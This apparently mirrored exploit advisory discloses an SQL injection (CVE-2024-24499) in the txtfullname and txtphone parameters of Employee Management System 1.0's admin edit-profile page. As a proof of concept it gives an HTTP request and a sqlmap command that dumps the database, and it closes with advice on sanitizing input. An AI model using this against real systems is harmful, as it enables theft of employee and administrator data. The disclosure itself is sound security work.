Employee Management System 1.0 Exploit, _txtfullname_ and _txtphone_ SQL Injection

# Exploit Title: Employee Management System 1.0 - `txtfullname` and `txtphone` SQL Injection
# Date: 2 Feb 2024
# Exploit Author: Yevhenii Butenko
# Vendor Homepage: https://www.sourcecodester.com
# Software Link: https://www.sourcecodester.com/php/16999/employee-management-system.html
# Version: 1.0
# Tested on: Debian
# CVE : CVE-2024-24499

### SQL Injection:

> SQL injection is a type of security vulnerability that allows an attacker to interfere with the queries that an application makes to its database. Usually, it involves the insertion or "injection" of a SQL query via the input data from the client to the application. A successful SQL injection exploit can read sensitive data from the database, modify database data (Insert/Update/Delete), execute administration operations on the database (such as shutdown the DBMS), recover the content of a given file present on the DBMS file system, and in some cases, issue commands to the operating system.

### Affected Components:

> /employee_akpoly/Admin/edit_profile.php

> Two parameters `txtfullname` and `txtphone` within admin edit profile mechanism are vulnerable to SQL Injection.



### Description:

> The presence of SQL Injection in the application enables attackers to issue direct queries to the database through specially crafted requests.

## Proof of Concept:

### SQLMap

Save the following request to `edit_profile.txt`:POST /employee_akpoly/Admin/edit_profile.php HTTP/1.1
Host: localhost
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate, br
Content-Type: application/x-www-form-urlencoded
Content-Length: 88
Origin: http://localhost
Connection: close
Referer: http://localhost/employee_akpoly/Admin/edit_profile.php
Upgrade-Insecure-Requests:1
Sec-Fetch-Dest: document
Sec-Fetch-Mode: navigate
Sec-Fetch-Site: same-origin
Sec-Fetch-User: ?1


Use `sqlmap` with `-r` option to exploit the vulnerability:

sqlmap -r edit_profile.txt --level 5 --risk 3 --batch --dbms MYSQL --dump

## Recommendations

When using this EmployeeManagement System, it is essential to update the application code to ensure user input sanitization and proper restrictions for special characters.All rights reserved nPulse.net2009 - 2024
Powered by: MVCP 2.0-RC / BVCP / ASPF-MILTER /PHP 7.4 / NGINX / FreeBSD